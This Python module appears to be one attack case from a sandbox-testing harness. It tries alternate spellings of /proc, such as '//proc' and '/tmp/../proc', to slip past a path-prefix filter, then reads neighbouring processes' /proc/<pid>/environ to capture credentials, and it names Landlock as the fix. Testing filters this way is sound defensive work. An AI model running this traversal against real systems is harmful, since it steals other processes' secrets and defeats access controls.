# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past a filter that compares the beginning of a path.
Means: names of /proc that do not begin with "/proc". One that works is enough.
"""

from attack import DONE, attempting, credential, denied, loot, neighbours

SPELLINGS = (
    "//proc",
    "/./proc",
    "/tmp/../proc",
    "/sys/../proc",
    "/usr/../proc",
    "/dev/../proc",
    "/../proc",
    "../" * 16 + "proc",  # from wherever we are: at the root, .. is the root
)


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        for proc in SPELLINGS:
            try:
                with open(f"{proc}/{pid}/environ", "rb") as file:
                    found = credential(file.read())
            except OSError as error:
                why = error
                continue
            if found:
                loot(found)
                return DONE
    return denied("every spelling of /proc", why)


ATTACK = {
    "effect": "the worker's environment is read through /proc",
    "means": "//proc, /./proc, /tmp/../proc, ../../proc: names that do not begin with /proc",
    "oracle": "secret:environ",
    "id": "PROC-02",
    "attack_id": "T1057, T1003.007, CWE-22",
    "remedy": "Landlock without /proc, which judges the file and not its name",
    "run": run,
}
